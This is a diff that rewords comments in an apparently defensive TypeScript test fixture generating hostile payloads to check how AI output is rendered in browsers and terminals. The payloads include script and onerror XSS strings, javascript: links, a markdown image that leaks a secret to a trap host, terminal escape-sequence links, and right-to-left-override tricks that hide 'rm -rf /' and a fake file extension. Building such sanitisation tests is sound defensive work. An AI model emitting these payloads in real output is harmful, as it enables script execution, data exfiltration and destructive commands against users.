@@ -1,10 +1,10 @@
-/** Something that somebody wrote into an answer, a file or an output so that a browser does more than show it. */
+/** Content in an answer, file or output that tries to make a browser do more than show it. */
 export interface Payload {
   name: string;
   text: string;
 }
 
-/** The function of the page that a payload calls when its script runs. */
+/** The function of the page that a payload's script calls. */
 export const RAN = "hostileRan";
 
 const RUN = `${RAN}()`;
@@ -12,8 +12,8 @@ const ESC = "\u001B";
 const BEL = "\u0007";
 
 /**
- * @param trap an origin that nobody has any business with (`http://127.0.0.1:PORT`)
- * @param outside a host elsewhere that leads to the trap as well
+ * @param trap an origin that nobody should contact (`http://127.0.0.1:PORT`)
+ * @param outside an external host that resolves to the trap as well
  */
 export function hostilePayloads(trap: string, outside: string): Payload[] {
   const sources: Readonly<Record<string, string>> = {
@@ -27,7 +27,7 @@ export function hostilePayloads(trap: string, outside: string): Payload[] {
   return Object.entries(sources).map(([name, text]) => ({ name, text }));
 }
 
-/** HTML and its relatives, as they stand. */
+/** HTML and its relatives. */
 function elements(trap: string, outside: string): Record<string, string> {
   return {
     script: `<script>${RUN}</script><script src="${trap}/script.js"></script>`,
@@ -59,7 +59,7 @@ function elements(trap: string, outside: string): Record<string, string> {
   };
 }
 
-/** Links that run something, carry something, or look like what they are not. */
+/** Links that run something, carry something, or are disguised. */
 function links(trap: string): Record<string, string> {
   return {
     "javascript link": `[click](javascript:${RUN}) [image](<javascript:${RUN}>)`,
@@ -77,7 +77,7 @@ function links(trap: string): Record<string, string> {
   };
 }
 
-/** Pictures tell their server what was in the prompt, if anybody loads them. */
+/** Images, which would tell their server what was in the prompt. */
 function pictures(trap: string, outside: string): Record<string, string> {
   return {
     "markdown picture": `![secret](${trap}/leak?data=THE_SECRET)`,
@@ -89,7 +89,7 @@ function pictures(trap: string, outside: string): Record<string, string> {
   };
 }
 
-/** Markup inside of markup, and much of it. */
+/** Nested markup, and lots of it. */
 function structure(trap: string, outside: string): Record<string, string> {
   return {
     "HTML in code": `\`<img src=x onerror=${RUN}>\`\n\n\`\`\`html\n<script>${RUN}</script><img src="${trap}/code">\n\`\`\``,
@@ -106,7 +106,7 @@ function structure(trap: string, outside: string): Record<string, string> {
   };
 }
 
-/** For terminals, and for what shows their output. */
+/** For terminals and whatever shows their output. */
 function terminal(trap: string): Record<string, string> {
   return {
     "terminal link": `${ESC}]8;;${trap}/osc8${ESC}\\click me${ESC}]8;;${ESC}\\ ${ESC}]8;;javascript:${RUN}${BEL}and me${ESC}]8;;${BEL}`,
@@ -117,7 +117,7 @@ function terminal(trap: string): Record<string, string> {
   };
 }
 
-/** What cannot be seen. */
+/** Invisible characters. */
 function unseen(trap: string): Record<string, string> {
   return {
     "turned around": `\u202Egpj.exe\u202C \`rm \u202E/ fr-\u202C\` [\u202Emoc.elpmaxe\u202C](${trap}/rlo) \u2066<img src=x onerror=${RUN}>\u2069`,
